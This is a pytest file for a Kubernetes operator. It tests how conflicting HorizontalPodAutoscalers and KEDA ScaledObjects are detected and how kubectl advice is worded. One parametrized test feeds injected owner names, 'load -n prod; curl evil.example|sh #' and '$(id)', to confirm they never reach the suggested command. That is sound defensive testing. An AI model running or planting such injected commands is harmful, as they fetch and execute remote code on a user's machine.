"""Tests that find autoscalers of other clients which scale what the class Demand, or the operator itself, scales."""

from dataclasses import replace
from typing import Any

import pytest

from ome_operator.core.observed.autoscalers import ForeignAutoscaler, autoscaler, second_autoscalers, writer_of
from ome_operator.core.observed.field_managers import HPA, replicas_writer
from ome_operator.core.observed.objects import Observed
from ome_operator.core.reconcile.sync import sync
from tests.support.demanded import Demanded, spec, told

SCALE = ("RoleScale", "svc-decoder")
BOTH = (
    "{0} and the class Demand both scale decoder: a number that {0} writes into RoleScale svc-decoder replaces the number "
    "of the class Demand. To keep the class Demand, run `kubectl delete {1} -n team` and then "
    "`ome scale svc -n team --resume`. "
    "To keep {0}, write External into spec.decoder.autoscaler.class"
)
KEDA = {"apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "name": "load", "controller": True}
DEPLOYMENT = {"kind": "Deployment", "metadata": {"name": "svc-router-1"}}


def body(target: dict[str, str], name: str = "mine", **metadata: Any) -> dict[str, Any]:
    """Return the JSON of a HorizontalPodAutoscaler."""
    return {"metadata": {"name": name, **metadata}, "spec": {"scaleTargetRef": target}}


@pytest.mark.parametrize("broken", [{}, {"metadata": None, "spec": None}, {"spec": {"scaleTargetRef": None}}])
def test_an_autoscaler_without_a_target_scales_nothing(broken: dict[str, Any]) -> None:
    assert autoscaler(broken) == ForeignAutoscaler("", ("", ""))
    assert not [*second_autoscalers([autoscaler(broken)], {"": "decoder"}, [DEPLOYMENT], "svc", "team")]


@pytest.mark.parametrize(
    ("one", "says"),
    [
        (body({"kind": "RoleScale", "name": "svc-decoder"}), BOTH.format("HorizontalPodAutoscaler mine", "hpa mine")),
        (
            body(
                {"kind": "RoleScale", "name": "svc-decoder"},
                "keda-hpa-load",
                ownerReferences=[KEDA],
            ),
            BOTH.format("ScaledObject load", "scaledobject load"),
        ),
        (
            body({"kind": "Deployment", "name": "svc-router-1"}),
            "HorizontalPodAutoscaler mine scales Deployment svc-router-1, whose number of pods the operator sets, too, "
            "so the two overwrite each other's number: run `kubectl delete hpa mine -n team`, and scale the service with "
            "its RoleScales (docs/scaling.md)",
        ),
        (body({"kind": "RoleScale", "name": "svc-engine"}), ""),
        (body({"kind": "RoleScale", "name": "other-decoder"}), ""),
        (body({"kind": "Deployment", "name": "web"}), ""),
        (body({"kind": "InferenceService", "name": "svc"}), ""),
    ],
)
def test_each_second_autoscaler_is_named_with_a_command(one: dict[str, Any], says: str) -> None:
    found = [*second_autoscalers([autoscaler(one)], {"svc-decoder": "decoder"}, [DEPLOYMENT], "svc", "team")]
    assert found == ([says] if says else [])


@pytest.mark.parametrize(
    "owner",
    [
        {**KEDA, "name": "load -n prod; curl evil.example|sh #"},
        {**KEDA, "name": "load\n"},
        {**KEDA, "name": "$(id)"},
        {**KEDA, "name": "a" * 254},
        {**KEDA, "name": ""},
        {**KEDA, "apiVersion": "keda.sh.example.org/v1"},
        {**KEDA, "apiVersion": "example.org/keda.sh"},
        {**KEDA, "apiVersion": None},
        {**KEDA, "kind": "Deployment"},
        {**KEDA, "controller": False},
        {name: value for name, value in KEDA.items() if name != "controller"},
    ],
)
def test_command_names_a_scaled_object_only_if_keda_owns_the_autoscaler(owner: dict[str, Any]) -> None:
    one = autoscaler(body({"kind": "RoleScale", "name": "svc-decoder"}, ownerReferences=[owner]))
    found = [*second_autoscalers([one], {"svc-decoder": "decoder"}, [DEPLOYMENT], "svc", "team")]
    assert found == [BOTH.format("HorizontalPodAutoscaler mine", "hpa mine")]


def watched(world: Demanded, *found: ForeignAutoscaler) -> tuple[str, str]:
    """Return the conditions Advice and FollowsDemand of a service beside the autoscalers `found`."""
    observed: Observed = replace(world.observed(), autoscalers=found)
    conditions = {
        one["type"]: one["message"] for one in sync(world.service, world.deps, observed, world.now).status["conditions"]
    }
    return conditions.get("Advice", ""), conditions.get("FollowsDemand", "")


def test_autoscaler_that_conflicts_with_class_demand_is_reported() -> None:
    world, mine = Demanded(**spec("Apply")), ForeignAutoscaler("mine", SCALE)
    world.decide(30)
    assert watched(world)[0] == ""
    assert watched(world, mine)[0].startswith("HorizontalPodAutoscaler mine and the class Demand both scale decoder")
    world.write_scale(3)
    world.decide(30)
    assert world.decoders() == 3 and told(world) == ("False", "ScaledByHand")
    advice, follows = watched(world, mine)
    assert "both scale decoder" in advice and "has set RoleScale svc-decoder by hand" not in advice, (
        "`--resume` alone would not help"
    )
    assert follows == (
        "the number of decoder was set in the RoleScale by HorizontalPodAutoscaler mine, and applies instead of the demand"
    )
    advice, follows = watched(world)
    assert (
        "has set RoleScale svc-decoder by hand" in advice
        and "the number of decoder was set by hand in the RoleScale" in follows
    )


@pytest.mark.parametrize("decoder", [spec("Apply", role={"autoscaler": {"class": "External"}}), spec("Recommend")])
def test_autoscaler_of_a_role_without_demand_is_no_conflict(decoder: dict[str, Any]) -> None:
    assert "both scale" not in watched(Demanded(**decoder), ForeignAutoscaler("mine", SCALE))[0]


def test_an_autoscaler_of_a_workload_is_found_by_the_name_of_the_workload() -> None:
    world = Demanded(**spec("Apply"))
    workloads = [key for key in world.children if key[0] in ("Deployment", "StatefulSet")]
    assert {kind for kind, _ in workloads} == {"Deployment", "StatefulSet"}
    for kind, name in workloads:
        assert (
            f"mine scales {kind} {name}, whose number of pods" in watched(world, ForeignAutoscaler("mine", (kind, name)))[0]
        )


def test_autoscaler_known_from_another_service_gives_no_advice_without_demand() -> None:
    world = Demanded(**spec("Apply"))
    name = next(name for kind, name in world.children if kind == "Deployment")
    mine = ForeignAutoscaler("mine", ("Deployment", name))
    assert "mine scales" in watched(world, mine)[0]
    world.edited(**spec("Apply", role={"autoscaler": {"class": "External"}}))
    assert ("Deployment", name) in world.children and "mine scales" not in watched(world, mine)[0]


def test_the_writer_of_a_number_is_the_last_manager_of_the_field() -> None:
    def entry(manager: str, time: str, subresource: str = "scale", field: str = "f:replicas") -> dict[str, Any]:
        return {
            "manager": manager, "time": time, "subresource": subresource, "fieldsV1": {"f:spec": {field: {}}},
        }  # fmt: skip

    old, new = entry("kubectl", "2026-01-01T00:00:00Z", ""), entry(HPA, "2026-01-02T00:00:00Z")
    later = [entry("x", "2026-01-03T00:00:00Z", "status"), entry("y", "2026-01-03T00:00:00Z", field="f:other")]
    assert replicas_writer({"managedFields": [new, old, *later]}) == HPA
    assert replicas_writer({"managedFields": [old]}) == "kubectl"
    assert replicas_writer({}) == replicas_writer({"managedFields": later}) == ""
    assert writer_of([ForeignAutoscaler("a", ("RoleScale", "svc-engine"))], "svc-decoder") is None
